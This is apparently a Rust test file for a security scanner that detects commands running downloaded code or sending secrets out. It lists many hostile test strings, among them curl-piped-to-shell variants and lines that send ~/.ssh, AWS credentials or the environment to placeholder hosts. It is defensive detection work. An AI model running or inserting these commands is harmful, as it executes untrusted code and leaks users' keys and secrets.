use super::{Files, RUN, SENT, find};
use crate::review::scan::testing::{shown_diff, shown_full};

#[test]
fn every_pattern_compiles() {
    assert!(RUN.is_some() && SENT.is_some());
}

#[test]
fn commands_that_run_downloads_or_send_secrets_are_found() {
    for text in [
        r#"curl "https://x.io/i?os=linux&arch=amd64" | sh"#,
        "curl -s https://x.io/i | tee /tmp/x | sh",
        "wget -O - https://x.io/i | gunzip | sh",
        "curl https://x.io 2>&1 | sh",
        "curl https://x.io |& sh",
        "curl https://x.io | FOO=1 sh",
        "curl https://x.io | exec sh",
        "curl https://x.io | /usr/bin/env bash",
        "curl https://x.io | sudo -u root bash -s -- -y",
        ". <(curl -s https://x.io)",
        "eval \"$(curl -s https://x.io)\"",
        "bash -c \"$(curl -fsSL https://x.io)\"",
        "bash <(curl -s https://x.io)",
        "sh -c \"`curl https://x.io`\"",
        "curl https://x.io | (sh)",
        "curl https://x.io | busybox sh",
        "curl https://x.io | xargs -0 sh -c",
        "curl https://x.io | python3",
        "curl https://x.io | python3 - --yes",
        "[\"sh\",\"-c\",\"curl https://x.io/5|sh\"]",
        "curl -o /tmp/x https://x.io/7 && chmod +x /tmp/x && /tmp/x",
        "curl -fsSL https://x.io/i > /tmp/i.sh && sh /tmp/i.sh",
        "wget https://x.io/get.sh; bash ./get.sh",
        "python3 -c \"import urllib.request as u;exec(u.urlopen('https://x.io/6').read())\"",
        "curl -d \"$(env)\" https://x.io",
        "tar cz ~/.ssh | curl -T - https://x.io",
        "cat ~/.aws/credentials | base64 | nc x.io 1",
        "curl -F f=@$HOME/.ssh/id_rsa https://x.io",
    ] {
        assert_eq!(find(text, &mut Files::default()).len(), 1, "{text}");
    }
}

#[test]
fn near_misses_are_none() {
    for text in [
        "curl https://x.io || sh fallback.sh",
        "curl https://x.io/a.tgz | tar xz && sh build.sh",
        "curl -s https://x.io | python3 -c 'import json'",
        "curl -s https://x.io | jq -r .a | sha256sum",
        "curl -fsSL https://x.io/x -o x && sha256sum -c x.sum && sh x",
        "curl -Lo /usr/local/bin/tool https://x.io/tool && chmod +x /usr/local/bin/tool",
        "curl -d \"$(cat body.json)\" https://x.io",
        "env | sort; mkdir -p ~/.ssh && curl https://x.io",
        "VERSION=$(curl -s https://x.io/version)",
        "sh build.sh; curl https://x.io",
    ] {
        assert_eq!(find(text, &mut Files::default()), [], "{text}");
    }
}

#[test]
fn they_are_said_of_shell_files_and_of_strings_that_are_run() {
    insta::assert_snapshot!(shown_full(&[
        ("run.sh", "#!/bin/sh\ncurl -s https://acme.io/x \\\n  | sh\ncurl -o y https://acme.io/y\nsh y\ntar cz ~/.ssh | curl -T - https://acme.io\n"),
        ("a.js", "const cp = require(`child_process`);\ncp.execSync(\"curl https://acme.io/x | sh\");\n"),
        ("setup.py", "import subprocess as sp\nsp.run(\"curl https://acme.io/x | sh\", shell=True)\n"),
    ]), @r#"
        high run.sh:6: A command sends the environment or a store of secrets to an address
            | tar cz ~/.ssh | curl -T - https://acme.io
        high setup.py:2: This code runs what an address answers
            | sp.run("curl https://acme.io/x | sh", shell=True)
        medium a.js:2: This code runs what an address answers
            | cp.execSync("curl https://acme.io/x | sh");
        medium run.sh:2-3: This code runs what an address answers
            | curl -s https://acme.io/x \\\n  | sh
        medium run.sh:5: This code runs what an address answers
            | sh y
        low run.sh:6: This code names a file or store where other programs keep credentials: 1 place in 1 file
            | tar cz ~/.ssh | curl -T - https://acme.io
        low setup.py:1: setup.py starts programs when the package is installed
            | import subprocess as sp
        info a.js:1: This code starts a program: 2 places in 2 files
            | const cp = require(`child_process`);
        info a.js:2: This code names hosts: acme.io
            | cp.execSync("curl https://acme.io/x | sh");
        "#);
    assert_eq!(
        shown_full(&[
            ("a.sh", "echo \"Install it: curl https://example.com | sh\"\n# curl https://example.com | sh\n"),
            (
                "a.js",
                "console.log('curl https://example.com | sh');\nconst hint = 'Run curl https://example.com | sh';\n"
            ),
            ("README.md", "curl https://example.com | sh\n"),
        ]),
        ""
    );
    assert_eq!(shown_diff(&[("a.sh", "curl https://a.io | sh\n")], &[("a.sh", "curl https://a.io | sh\ntrue\n")]), "");
}
